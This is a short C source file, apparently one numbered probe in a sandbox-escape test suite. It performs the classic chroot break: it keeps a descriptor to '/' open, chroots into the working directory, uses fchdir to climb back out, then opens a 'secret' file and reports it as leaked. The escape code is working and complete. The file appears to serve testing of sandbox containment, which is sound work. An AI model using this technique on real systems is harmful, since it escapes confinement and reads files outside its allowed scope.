/* P15: chroot into the workdir and climb out with fchdir on an fd kept
 * from before (the classic chroot break). */
#include "escape.h"

int attack(int argc, char **argv)
{
	int root = open("/", O_PATH | O_DIRECTORY);
	int fd;

	result(chroot("."));
	say("AFTER");
	if (root >= 0 && fchdir(root) == 0) {
		fd = open(ARG("secret") + 1, O_RDONLY);
		if (fd >= 0)
			leaked(fd, ARG("token"));
	}
	return 0;
}
